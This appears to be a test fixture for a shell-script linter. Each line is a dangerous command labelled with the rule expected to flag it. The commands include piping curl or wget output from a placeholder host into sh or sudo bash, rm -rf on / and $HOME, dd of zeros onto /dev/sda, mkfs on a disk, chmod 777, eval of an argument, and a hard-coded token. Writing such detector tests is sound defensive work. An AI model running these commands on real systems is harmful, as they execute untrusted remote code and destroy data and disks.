#!/bin/sh
eval "$1" # want: sh-eval
curl -s https://example.test/x | sh # want: sh-download-run
wget -qO- https://example.test/x | sudo bash # want: sh-download-run
bash <(curl -s https://example.test/x) # want: sh-download-run
rm -rf / # want: sh-remove-root
rm -r -f "$HOME" # want: sh-remove-root
rm -rf "$DIR"/* # want: sh-remove-root
chmod 777 file # want: sh-chmod
dd if=/dev/zero of=/dev/sda # want: sh-device
mkfs.ext4 /dev/sdb # want: sh-filesystem
API_TOKEN="a1b2c3d4e5f6" # want: secret-hard-coded
